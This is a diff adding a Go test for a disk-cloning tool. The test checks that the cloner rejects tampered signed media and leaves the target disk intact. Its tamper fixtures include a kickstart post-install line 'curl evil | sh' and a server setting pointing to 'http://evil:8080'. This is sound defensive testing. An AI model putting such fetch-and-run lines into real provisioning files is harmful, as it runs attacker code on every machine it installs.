@@ -1,0 +1,210 @@
+package clone
+
+import (
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/clonecd/clonecd/internal/testenv"
+	"github.com/clonecd/clonecd/medium"
+	"github.com/clonecd/clonecd/trust"
+)
+
+// smallLayout is a one-partition layout for a 64 MiB disk.
+const smallLayout = `label: dos
+unit: sectors
+sector-size: 512
+
+/dev/sda1 : start=2048, size=65536, type=83, bootable
+# clonecd: part=1 fs=ext4 mount=/ label=root
+`
+
+// signMedia writes dir's MANIFEST (every file of the medium as the
+// master lists it) and, with key, MANIFEST.minisig.
+func signMedia(t *testing.T, dir string, key *trust.SecretKey) {
+	t.Helper()
+	m := &medium.Manifest{Version: "1.42", Date: time.Now().UTC().Truncate(time.Second)}
+	names := append([]string{medium.Version, medium.ImageGzip, medium.SumName(medium.ImageGzip), medium.Layout}, medium.Optional...)
+	for _, n := range names {
+		b, err := os.ReadFile(filepath.Join(dir, filepath.FromSlash(n)))
+		if errors.Is(err, os.ErrNotExist) {
+			continue
+		} else if err != nil {
+			t.Fatal(err)
+		}
+		sum := sha256.Sum256(b)
+		m.Add(medium.File{Name: n, Size: int64(len(b)), SHA256: hex.EncodeToString(sum[:])})
+	}
+	b, err := m.Marshal()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, medium.ManifestFile), b, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if key != nil {
+		if _, err := trust.SignDir(dir, key); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+// trustReporter records what the run reports.
+type trustReporter struct {
+	mu    sync.Mutex
+	trust string
+}
+
+func (r *trustReporter) Step(string)           {}
+func (r *trustReporter) Progress(int64, int64) {}
+func (r *trustReporter) Done(error)            {}
+func (r *trustReporter) Trusted(s string)      { r.mu.Lock(); r.trust = s; r.mu.Unlock() }
+
+func hashFile(t *testing.T, p string) string {
+	t.Helper()
+	f, err := os.Open(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	h := sha256.New()
+	if _, err := io.Copy(h, f); err != nil {
+		t.Fatal(err)
+	}
+	return hex.EncodeToString(h.Sum(nil))
+}
+
+// TestCloneTrust is issue 11's cloner side on a loop disk: a cloner that
+// trusts the master's key clones a signed medium (stopped before
+// partition), and refuses the medium with each of its files changed in
+// turn (layout, ks.cfg, nodes, clonecd.conf, the image with a matching
+// .sha256, kernel, initrd, CLONE_CD_VERSION, MANIFEST, the signature
+// removed or another key's), naming the file, with the disk's bytes as
+// they were. A cloner without a key clones the same medium and says
+// UNSIGNED in its log and its report.
+func TestCloneTrust(t *testing.T) {
+	testenv.NeedRoot(t)
+	testenv.NeedTools(t, "sfdisk", "losetup", "cp")
+	root := t.TempDir()
+	for n, c := range map[string]string{"etc/hostname": "golden\n", "etc/motd": "hello\n", "bin/true": "#!/bin/sh\n"} {
+		os.MkdirAll(filepath.Join(root, filepath.Dir(n)), 0o755)
+		os.WriteFile(filepath.Join(root, n), []byte(c), 0o644)
+	}
+	implant := t.TempDir() // a well formed image of another root
+	os.WriteFile(filepath.Join(implant, "implant"), []byte("root's now\n"), 0o644)
+	forged := t.TempDir()
+	makeMedia(t, implant, forged)
+	signed := t.TempDir()
+	makeMedia(t, root, signed)
+	os.WriteFile(filepath.Join(signed, medium.Layout), []byte(smallLayout), 0o644)
+	dir := t.TempDir()
+	key, err := trust.GenerateKey(filepath.Join(dir, "clonecd.key"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	other, err := trust.GenerateKey(filepath.Join(dir, "other.key"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	signMedia(t, signed, key)
+	keys, err := trust.NewVerifier(key.Public())
+	if err != nil {
+		t.Fatal(err)
+	}
+	disk := testenv.Sparse(t, "node.img", 64<<20)
+	// the disk holds an old node's bytes that a refusal must leave alone
+	if out, err := exec.Command("sh", "-c", "printf 'old node' | dd of="+disk+" bs=1M seek=3 conv=notrunc status=none").CombinedOutput(); err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
+
+	change := func(name, text string) func(string) {
+		return func(m string) { os.WriteFile(filepath.Join(m, filepath.FromSlash(name)), []byte(text), 0o644) }
+	}
+	for _, tt := range []struct {
+		name   string
+		change func(media string) // nil: the medium as signed
+		keys   *trust.Verifier
+		file   string // the file the refusal names ("": cloned)
+		why    string // regexp on the refusal; when cloned, the trust it reports
+	}{
+		{"signed", nil, keys, "", "signed by key " + key.ID()},
+		{"no key", nil, nil, "", trust.Unsigned},
+		{"no key, unsigned medium", func(m string) { os.Remove(filepath.Join(m, medium.SignatureFile)) }, nil, "", trust.Unsigned},
+		{"layout", change(medium.Layout, strings.Replace(smallLayout, "size=65536", "size=65537", 1)), keys, medium.Layout, "the manifest says"},
+		{"ks.cfg", change(medium.Kickstart, "%post --nochroot\ncurl evil | sh\n%end\n"), keys, medium.Kickstart, "the manifest says"},
+		{"nodes", change(medium.Nodes, "52:54:00:12:34:56 s002\n"), keys, medium.Nodes, "the manifest says"},
+		{"clonecd.conf", change(medium.Conf, "server=http://evil:8080\n"), keys, medium.Conf, "the manifest says"},
+		{"kernel", change(medium.Kernel, "an implant"), keys, medium.Kernel, "MANIFEST says"},
+		{"kernel removed", func(m string) { os.Remove(filepath.Join(m, medium.Kernel)) }, keys, medium.Kernel, "listed in MANIFEST but missing"},
+		{"initrd", change(medium.Initrd, "initrx"), keys, medium.Initrd, "sha256 [0-9a-f]{64}, the manifest says"},
+		{"image, with a matching .sha256", func(m string) {
+			for _, n := range []string{medium.ImageGzip, medium.SumName(medium.ImageGzip)} {
+				b, _ := os.ReadFile(filepath.Join(forged, n))
+				os.WriteFile(filepath.Join(m, n), b, 0o644)
+			}
+		}, keys, medium.ImageGzip, "the manifest says .*not the image the master signed"},
+		{"version", change(medium.Version, "1.43\n"), keys, medium.Version, "the manifest says|MANIFEST is for version"},
+		{"manifest", func(m string) {
+			p := filepath.Join(m, medium.ManifestFile)
+			b, _ := os.ReadFile(p)
+			os.WriteFile(p, []byte(strings.Replace(string(b), "date ", "date 1", 1)), 0o644)
+		}, keys, medium.ManifestFile, "does not match its signature"},
+		{"manifest re-made for a changed ks.cfg", func(m string) {
+			change(medium.Kickstart, "%post --nochroot\ncurl evil | sh\n%end\n")(m)
+			signMedia(t, m, nil)
+		}, keys, medium.ManifestFile, "does not match its signature"},
+		{"signature removed", func(m string) { os.Remove(filepath.Join(m, medium.SignatureFile)) }, keys, medium.SignatureFile, "missing"},
+		{"signed by another key", func(m string) { signMedia(t, m, other) }, keys, medium.SignatureFile, "not trusted"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			media := filepath.Join(t.TempDir(), "media")
+			if out, err := exec.Command("cp", "-a", signed, media).CombinedOutput(); err != nil {
+				t.Fatalf("cp: %v: %s", err, out)
+			}
+			if tt.change != nil {
+				tt.change(media)
+			}
+			before := hashFile(t, disk)
+			var log strings.Builder
+			rep := &trustReporter{}
+			err := Run(context.Background(), Config{Media: os.DirFS(media), Target: disk, Trust: tt.keys, Log: &log,
+				Hostname: "n1", NoTune: true, Break: "partition", Reporter: rep, MACs: []string{}})
+			t.Logf("clone log:\n%s", log.String())
+			if after := hashFile(t, disk); after != before {
+				t.Errorf("the disk's bytes changed before partition")
+			}
+			if tt.file == "" {
+				if !errors.Is(err, ErrBreak) {
+					t.Fatalf("err = %v; want the run to reach partition", err)
+				}
+				if rep.trust != tt.why {
+					t.Errorf("reported trust %q; want %q", rep.trust, tt.why)
+				}
+				if !strings.Contains(log.String(), "setup: "+tt.why) && !strings.Contains(log.String(), "setup: media "+tt.why) {
+					t.Errorf("the log does not say %s", tt.why)
+				}
+				return
+			}
+			var se *StepError
+			if !errors.As(err, &se) || se.Step != "setup" {
+				t.Fatalf("err = %v; want a refusal in setup", err)
+			}
+			if !regexp.MustCompile(regexp.QuoteMeta(tt.file) + `[: ].*(` + tt.why + `)`).MatchString(err.Error()) {
+				t.Errorf("err = %v; want it to name %s (%s)", err, tt.file, tt.why)
+			}
+			if !strings.Contains(err.Error(), "nothing was written") {
+				t.Errorf("err = %v; want it to say nothing was written", err)
+			}
+		})
+	}
+}
